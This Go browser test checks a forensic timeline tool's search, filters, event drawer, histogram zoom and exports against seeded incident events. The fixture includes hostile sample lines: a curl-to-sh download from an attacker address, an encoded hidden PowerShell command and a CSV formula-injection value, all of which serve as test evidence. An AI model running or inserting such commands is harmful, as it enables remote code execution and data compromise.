package main

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	cdpruntime "github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/quarry-dfir/quarry"
	"github.com/quarry-dfir/quarry/sqldb"
)

// timelineFixture makes a project with two hosts' evidence and a morning of events on them:
// logons and process creations from a domain controller, sshd and shell history from a web
// server, some of them flagged by detections.
func timelineFixture(t *testing.T, ts *testServer) (*quarry.Project, []*quarry.Event) {
	t.Helper()
	ctx := context.Background()
	p := &quarry.Project{Name: "Incident 8 timeline", CreatedBy: ts.adminUser.ID}
	if err := sqldb.NewProjectService(ts.m.DB).CreateProject(ctx, p); err != nil {
		t.Fatal(err)
	}
	acqs, evs := sqldb.NewAcquisitionService(ts.m.DB), sqldb.NewEvidenceService(ts.m.DB)
	evidence := map[string]int64{}
	for i, host := range []string{"dc01", "web01"} {
		a := &quarry.Acquisition{ProjectID: p.ID, HostName: host, Source: quarry.SourceManual}
		if err := acqs.CreateAcquisition(ctx, a); err != nil {
			t.Fatal(err)
		}
		sum := strings.Repeat(fmt.Sprintf("%02x", 0xa0+i), 32)
		e := &quarry.Evidence{ProjectID: p.ID, AcquisitionID: a.ID, SHA256: sum, Size: 18 << 20, BlobKey: "evidence/" + sum,
			ReceivedFromIP: "192.0.2.10", TokenPrefix: "qu_test", Hostname: host, Manifest: quarry.ManifestSummary{Files: 240, OS: map[bool]string{true: "windows", false: "linux"}[i == 0], Profile: "triage"}}
		if err := evs.CreateEvidence(ctx, e, nil); err != nil {
			t.Fatal(err)
		}
		end := time.Date(2026, 11, 20, 12, 1, 0, 0, time.UTC)
		rep := &quarry.ProcessingReport{Stage: quarry.StageDone, Format: "quarry-package/1", StartedAt: end.Add(-42 * time.Second), EndedAt: &end,
			FilesTotal: 240, FilesDone: 240, Events: 20,
			Parsers:  map[string]*quarry.ParserReport{"evtx": {Files: 3, Records: 900, Events: 12, DurationMS: 830}, "authlog": {Files: 2, Records: 40, Events: 8, DurationMS: 12}},
			Problems: []quarry.ProcessingProblem{{Path: "Windows/System32/winevt/Logs/Broken.evtx", Parser: "evtx", Reason: "chunk 3: bad checksum, skipped"}}, ProblemsTotal: 1}
		if err := evs.UpdateEvidenceProcessing(ctx, e.ID, quarry.EvidenceProcessed, rep); err != nil {
			t.Fatal(err)
		}
		evidence[host] = e.ID
	}
	day := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	var events []*quarry.Event
	add := func(at time.Duration, host, source, user, msg string, fields map[string]any, sev string, dets ...quarry.Detection) {
		path := map[string]string{"evtx": `C:\Windows\System32\winevt\Logs\Security.evtx`, "auth.log": "/var/log/auth.log", "bash_history": "/root/.bash_history"}[source]
		events = append(events, &quarry.Event{ProjectID: p.ID, EvidenceID: evidence[host], Timestamp: day.Add(at), TimestampDesc: "Event Time",
			Source: source, Host: host, User: user, Message: msg, Path: path, Fields: fields, Severity: sev, Detections: dets})
	}
	brute := quarry.Detection{RuleID: "win-failed-logon-burst", Title: "Burst of failed logons", Level: "medium", Tags: []string{"attack.t1110"}, Kind: "sigma"}
	for i := range 8 {
		add(8*time.Hour+time.Duration(i)*7*time.Minute, "dc01", "evtx", "administrator", fmt.Sprintf("An account failed to log on: administrator from 203.0.113.9 (attempt %d)", i+1),
			map[string]any{"EventID": int64(4625), "Channel": "Security", "TargetUserName": "administrator", "IpAddress": "203.0.113.9", "LogonType": int64(10)},
			quarry.SeveritySuspicious, brute)
	}
	add(9*time.Hour, "dc01", "evtx", "alice", "An account was successfully logged on: CORP\\alice from 10.0.0.5",
		map[string]any{"EventID": int64(4624), "Channel": "Security", "TargetUserName": "alice", "IpAddress": "10.0.0.5", "LogonType": int64(3)}, "")
	add(9*time.Hour+10*time.Minute, "dc01", "evtx", "alice", "A new process has been created: powershell.exe -nop -w hidden -enc SQBFAFgA",
		map[string]any{"EventID": int64(4688), "Channel": "Security", "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA", "NewProcessName": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
		quarry.SeverityAlarm, quarry.Detection{RuleID: "proc-creation-win-powershell-enc", Title: "Encoded PowerShell command line", Level: "high", Tags: []string{"attack.t1059.001"}, Kind: "sigma"})
	for i := range 6 {
		add(10*time.Hour+time.Duration(i)*5*time.Second, "web01", "auth.log", "root", fmt.Sprintf("Failed password for root from 203.0.113.9 port %d ssh2", 50522+i),
			map[string]any{"program": "sshd", "pid": int64(1234 + i), "src_ip": "203.0.113.9"}, "")
	}
	add(10*time.Hour+2*time.Minute, "web01", "auth.log", "deploy", "Accepted publickey for deploy from 10.0.0.7 port 40022 ssh2",
		map[string]any{"program": "sshd", "pid": int64(1300), "src_ip": "10.0.0.7"}, "")
	add(10*time.Hour+3*time.Minute, "web01", "bash_history", "root", "curl -s http://203.0.113.9/x.sh | sh", map[string]any{"command": "curl -s http://203.0.113.9/x.sh | sh"},
		quarry.SeverityAlarm, quarry.Detection{RuleID: "ioc-ip-203.0.113.9", Title: "Known bad address 203.0.113.9", Level: "high", Kind: "ioc"})
	add(10*time.Hour+4*time.Minute, "web01", "bash_history", "root", "=cmd|' /C calc'!A0", map[string]any{"command": "=cmd|' /C calc'!A0"}, "")
	if err := sqldb.NewEventService(ts.m.DB).InsertEvents(ctx, events); err != nil {
		t.Fatal(err)
	}
	return p, events
}

// TestBrowserTimeline searches, filters, opens an event in the drawer, stars and comments on it,
// zooms with the histogram and exports, in Chromium, checking each step against the API.
func TestBrowserTimeline(t *testing.T) {
	ctx := browser(t)
	ts := startServer(t, sqldb.DialectSQLite)
	shots := artifacts(t, "timeline")
	base := ts.m.URL()
	p, events := timelineFixture(t, ts)
	pid := itoa(p.ID)
	// Script errors of the page fail the test (collected here, checked at the end).
	var jsMu sync.Mutex
	var jsErrors []string
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*cdpruntime.EventExceptionThrown); ok {
			jsMu.Lock()
			defer jsMu.Unlock()
			msg := e.ExceptionDetails.Text
			if e.ExceptionDetails.Exception != nil {
				msg += " " + e.ExceptionDetails.Exception.Description
			}
			jsErrors = append(jsErrors, msg)
		}
	}); err != nil {
		t.Fatal(err)
	}
	defer func() {
		jsMu.Lock()
		defer jsMu.Unlock()
		if len(jsErrors) > 0 {
			t.Errorf("the page threw: %q", jsErrors)
		}
	}()

	steps(t, ctx,
		chromedp.Navigate(base+"/login?next=/projects/"+pid+"/timeline"),
		waitVisible(`input[name=username]`),
		chromedp.SendKeys(css(`input[name=username]`), "bob"),
		chromedp.SendKeys(css(`input[name=password]`), analystPassword),
		nav(chromedp.Submit(css(`input[name=password]`)), `#events`),
		waitVisible(`#histogram-plot svg .hist-bar`),
		screenshot(shots, "01-timeline"),
	)
	if total := value(t, ctx, chromedp.Text(css(`#event-total`))); total != fmt.Sprint(len(events)) {
		t.Fatalf("total = %q, want %d", total, len(events))
	}

	// A query with a mistake shows the column under the search box and keeps what was typed.
	steps(t, ctx,
		chromedp.SetValue(css(`#q`), `EventID:(4625`),
		nav(chromedp.Submit(css(`#q`)), `#q-error`),
		screenshot(shots, "02-syntax-error"),
	)
	if msg := value(t, ctx, chromedp.Text(css(`#q-error`))); !strings.Contains(msg, "column 14") {
		t.Fatalf("syntax error shown as %q", msg)
	}

	// Search, then filter by a host from the facets.
	steps(t, ctx,
		chromedp.SetValue(css(`#q`), `src_ip:203.0.113.9 OR EventID:4625`),
		nav(chromedp.Submit(css(`#q`)), `#events`),
	)
	if total := value(t, ctx, chromedp.Text(css(`#event-total`))); total != "14" {
		t.Fatalf("search total = %q, want 14", total)
	}
	steps(t, ctx,
		nav(chromedp.Click(css(`#facet-host a[href*="host=dc01"]`)), `.chip`),
		waitVisible(`#histogram-plot svg .hist-bar`),
		screenshot(shots, "03-search-host"),
	)
	loc := value(t, ctx, chromedp.Location())
	if !strings.Contains(loc, "host=dc01") || !strings.Contains(loc, "q=src_ip") {
		t.Fatalf("after the host facet the URL is %q", loc)
	}
	hosts := value(t, ctx, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll('#events tbody tr td:nth-child(3)')).map(e => e.textContent.trim())`))
	if len(hosts) != 8 {
		t.Fatalf("host filter shows %d rows, want the 8 failed logons on dc01", len(hosts))
	}
	for _, h := range hosts {
		if h != "dc01" {
			t.Fatalf("host filter shows a row of %q", h)
		}
	}
	// Reloading the URL restores the same view.
	steps(t, ctx, chromedp.Navigate(loc), waitVisible(`#events`))
	if q := value(t, ctx, chromedp.Value(css(`#q`))); q != `src_ip:203.0.113.9 OR EventID:4625` {
		t.Fatalf("after a reload the search box holds %q", q)
	}

	// Open the first event in the drawer, star it and comment on it.
	target := events[0]
	steps(t, ctx,
		chromedp.Click(css(`#ev-`+itoa(target.ID)+` a.ev-link`)),
		waitVisible(`#drawer #event-detail`),
		screenshot(shots, "04-drawer"),
	)
	if title := value(t, ctx, chromedp.Text(css(`#drawer-title`))); !strings.Contains(title, "Event "+itoa(target.ID)) {
		t.Fatalf("drawer title = %q", title)
	}
	if fields := value(t, ctx, chromedp.Text(css(`#drawer table.fields`))); !strings.Contains(fields, "IpAddress") || !strings.Contains(fields, "203.0.113.9") {
		t.Fatalf("drawer fields = %q", fields)
	}
	steps(t, ctx,
		chromedp.Click(css(`#drawer button.star`)),
		waitVisible(`#ev-`+itoa(target.ID)+` button.star.on`),
		chromedp.SendKeys(css(`#drawer textarea[name=text]`), "First attempt of the RDP brute force"),
		chromedp.Click(css(`#drawer #comment-form button[type=submit]`)),
		waitVisible(`#drawer ol.comments`),
		screenshot(shots, "05-starred-commented"),
	)
	r := ts.do(t, "GET", "/api/v1/projects/"+pid+"/events/"+itoa(target.ID), ts.viewer, nil)
	if r.status != 200 || r.body["starred"] != true || r.body["comments"] != float64(1) {
		t.Fatalf("event after star and comment = %d %s", r.status, r.raw)
	}
	if list, _ := r.body["comment_list"].([]any); len(list) != 1 || list[0].(map[string]any)["author"] != "bob" {
		t.Fatalf("comments = %v", r.body["comment_list"])
	}
	steps(t, ctx, chromedp.Click(css(`#drawer-close`)))
	if hidden := value(t, ctx, chromedp.Evaluate[bool](`document.getElementById('drawer').hidden`)); !hidden {
		t.Fatal("the drawer stays open after Close")
	}

	// Export with the current filter: the link carries it; fetch it as the browser would download it.
	href := value(t, ctx, chromedp.Evaluate[string](`document.getElementById('export-csv').href`))
	if !strings.Contains(href, "host=dc01") || !strings.Contains(href, "format=csv") {
		t.Fatalf("export link %q does not carry the filter", href)
	}
	type download struct {
		Status      int    `json:"status"`
		Disposition string `json:"disposition"`
		Body        string `json:"body"`
	}
	got := value(t, ctx, chromedp.Evaluate[download](`fetch(document.getElementById('export-csv').href).then(r => r.text().then(b => ({status: r.status, disposition: r.headers.get('Content-Disposition') || '', body: b})))`,
		chromedp.EvalAsValue, chromedp.EvalAwaitPromise))
	lines := strings.Split(strings.TrimSpace(got.Body), "\n")
	if got.Status != 200 || !strings.HasPrefix(got.Disposition, "attachment") || len(lines) != 9 || !strings.HasPrefix(lines[0], "datetime,") {
		t.Fatalf("CSV export = %d %q, %d lines:\n%s", got.Status, got.Disposition, len(lines), got.Body)
	}
	got = value(t, ctx, chromedp.Evaluate[download](`fetch(document.getElementById('export-jsonl').href).then(r => r.text().then(b => ({status: r.status, disposition: r.headers.get('Content-Disposition') || '', body: b})))`,
		chromedp.EvalAsValue, chromedp.EvalAwaitPromise))
	if got.Status != 200 || strings.Count(got.Body, "\n") != 8 || !strings.Contains(got.Body, `"tag":["starred"]`) {
		t.Fatalf("JSON lines export = %d, %d lines:\n%s", got.Status, strings.Count(got.Body, "\n"), got.Body)
	}

	// Key events, then zoom into one histogram bar.
	steps(t, ctx,
		chromedp.Navigate(base+"/projects/"+pid+"/timeline"),
		waitVisible(`#view-key`),
		nav(chromedp.Click(css(`#view-key`)), `#view-key[aria-current]`),
		waitVisible(`#histogram-plot svg .hist-bar`),
		screenshot(shots, "06-key-events"),
	)
	if total := value(t, ctx, chromedp.Text(css(`#event-total`))); total != "10" {
		t.Fatalf("key events = %q, want 10 (8 suspicious, 2 alarms)", total)
	}
	steps(t, ctx,
		nav(chromedp.Click(css(`#histogram-plot svg .hist-bar[tabindex="0"]`)), `#reset-zoom`),
		screenshot(shots, "07-zoomed"),
	)
	loc = value(t, ctx, chromedp.Location())
	if !strings.Contains(loc, "from=") || !strings.Contains(loc, "to=") || !strings.Contains(loc, "severity=alarm") {
		t.Fatalf("after a click on a bar the URL is %q", loc)
	}
	zoomed := value(t, ctx, chromedp.Text(css(`#event-total`)))
	if zoomed == "0" || zoomed == "10" {
		t.Fatalf("zoomed into one bar, %s events match; want some, not all", zoomed)
	}

	steps(t, ctx,
		chromedp.Navigate(base+"/projects/"+pid+"/overview"),
		waitVisible(`#evidence`),
		screenshot(shots, "08-overview"),
	)
	if text := value(t, ctx, chromedp.Text(css(`#evidence`))); !strings.Contains(text, strings.Repeat("a0", 32)) || !strings.Contains(text, "evtx") {
		t.Fatalf("overview evidence = %q", text)
	}
}
